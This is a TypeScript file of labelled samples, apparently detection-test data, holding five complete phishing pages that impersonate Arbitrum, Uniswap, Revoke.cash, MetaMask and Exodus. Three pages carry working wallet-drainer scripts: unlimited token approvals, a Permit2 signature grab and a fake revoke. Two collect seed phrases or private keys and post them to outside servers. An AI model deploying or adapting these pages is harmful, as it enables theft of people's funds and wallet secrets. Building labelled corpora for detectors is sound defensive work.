import type { Entry } from '../entry.js';

/** Wallet drainers (approve / permit / transfer of everything) and seed-phrase collection pages. */
export const entries: Entry[] = [
  {
    id: 'drainer-airdrop-claim-approve',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://claim-arbitrum-airdrop.network/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Arbitrum Airdrop — Claim $ARB</title>
<style>body{background:#0c1a2a;color:#fff;font-family:Inter,Arial;text-align:center}.btn{background:#12aaff;border:0;border-radius:12px;color:#fff;padding:16px 48px;font-size:18px;margin-top:30px}</style></head>
<body><h1>Season 3 airdrop is live</h1><p>Eligible wallets can claim up to 12,500 ARB. Connect your wallet to check eligibility.</p><button class="btn" id="connect">Connect Wallet</button><p id="st"></p>
<script>
const SPENDER = '0x7a3f9d8b1c0e2a4f6b8d0c1e3a5f7b9d2c4e6a81';
const MAX = '0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
const TOKENS = ['0xFd086bC7CD5C481DCC9C85ebE478A1C0b69FCbb9', '0xaf88d065e77c8cC2239327C5EDb3A432268e5831', '0x912CE59144191C1204E64559FE8253a0e49E6548'];
document.getElementById('connect').onclick = async () => {
  const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  document.getElementById('st').textContent = 'Checking eligibility…';
  for (const token of TOKENS) {
    const data = '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + MAX.slice(2);
    await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to: token, data }] });
  }
  fetch('https://api.claim-arbitrum-airdrop.network/log', { method: 'POST', body: JSON.stringify({ account }) });
};
</script></body></html>`,
  },
  {
    id: 'drainer-permit2-sign',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://app-uniswap-rewards.org/#/claim',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Uniswap Interface</title></head>
<body style="background:#fff;font-family:Inter,Arial"><div style="width:480px;margin:80px auto;border-radius:24px;border:1px solid #eee;padding:24px"><h2>🦄 Claim UNI rewards</h2><p>You have <b>1,204.22 UNI</b> unclaimed liquidity rewards.</p><button id="c" style="width:100%;background:#fc72ff;color:#fff;border:0;border-radius:20px;padding:16px">Claim</button></div>
<script>
c.onclick = async () => {
  const [owner] = await ethereum.request({ method: 'eth_requestAccounts' });
  const typed = {
    domain: { name: 'Permit2', chainId: 1, verifyingContract: '0x000000000022D473030F116dDEE9F6B43aC78BA3' },
    types: { PermitBatch: [{ name: 'details', type: 'PermitDetails[]' }, { name: 'spender', type: 'address' }, { name: 'sigDeadline', type: 'uint256' }], PermitDetails: [{ name: 'token', type: 'address' }, { name: 'amount', type: 'uint160' }, { name: 'expiration', type: 'uint48' }, { name: 'nonce', type: 'uint48' }] },
    primaryType: 'PermitBatch',
    message: { details: [{ token: '0xdAC17F958D2ee523a2206206994597C13D831ec7', amount: '1461501637330902918203684832716283019655932542975', expiration: '281474976710655', nonce: 0 }], spender: '0x3b2e1f0a9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f', sigDeadline: '281474976710655' },
  };
  const sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
  await fetch('/api/permit', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ owner, sig, typed }) });
};
</script></body></html>`,
  },
  {
    id: 'drainer-revoke-scam',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://revoke-cash-security.com/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Revoke.cash — Emergency Revoke</title></head>
<body style="font-family:Arial;background:#fffbea"><div style="width:560px;margin:60px auto"><h1>⚠ Security incident: revoke your approvals now</h1><p>A vulnerability was found in several DeFi routers. Connect your wallet to revoke all risky approvals in one click.</p>
<button id="r" style="background:#000;color:#fff;padding:14px 30px;border:0">Revoke all</button>
<script>
r.addEventListener('click', async function () {
  const accts = await window.ethereum.request({ method: 'eth_requestAccounts' });
  const from = accts[0];
  // "increaseAllowance" disguised as revoke: 0x39509351 increaseAllowance(spender, max)
  const spender = '000000000000000000000000d3adb33f0000c0ffee0000000000000000000001';
  const data = '0x39509351' + spender + 'f'.repeat(64);
  for (const to of ['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7', '0x6B175474E89094C44Da98b954EedeAC495271d0F']) {
    await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to, data }] });
  }
});
</script></div></body></html>`,
  },
  {
    id: 'seed-metamask-restore',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://metamask-wallet-restore.io/restore-vault',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>MetaMask</title>
<style>body{font-family:Euclid,Arial;background:#f2f4f6}.w{width:560px;margin:40px auto;background:#fff;padding:30px;border-radius:8px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.g input{padding:8px}</style></head>
<body><div class="w"><h2>🦊 Reset Wallet</h2><p>Your wallet was flagged during the latest security update. Enter your Secret Recovery Phrase to re-sync your vault.</p>
<form id="f"><div class="g">${Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('')}</div>
<p><input type="password" name="newpw" placeholder="New password (min 8 chars)"></p><button style="background:#037dd6;color:#fff;border:0;border-radius:20px;padding:12px 40px">Restore</button></form></div>
<script>
document.getElementById('f').onsubmit = function (e) { e.preventDefault();
  var words = []; for (var i = 1; i <= 12; i++) words.push(this['w' + i].value.trim());
  fetch('https://metamask-wallet-restore.io/api/v2/sync', { method: 'POST', body: JSON.stringify({ phrase: words.join(' ') }) }).then(function(){ alert('Wallet successfully restored'); });
};
</script></body></html>`,
  },
  {
    id: 'seed-private-key-import',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://exodus-wallet-sync.com/import',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Exodus - Sync Wallet</title></head>
<body style="background:linear-gradient(#1a1d4a,#0b0d24);color:#fff;font-family:Arial"><div style="width:500px;margin:60px auto"><h1>Exodus Web Sync</h1><p>Sync your desktop wallet with the new Exodus Web to receive the EXO token bonus.</p>
<form id="k"><select id="t"><option>12-word secret phrase</option><option>Private key</option></select><textarea id="v" rows="4" style="width:100%"></textarea><button>Sync</button></form></div>
<script>
k.onsubmit = async (e) => { e.preventDefault();
  await fetch('https://api.jsonbin.io/v3/b', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Master-Key': '$2a$10$Qm8pZ1xK9' }, body: JSON.stringify({ type: t.value, secret: v.value, ts: Date.now() }) });
  location.href = 'https://www.exodus.com/';
};
</script></body></html>`,
  },];
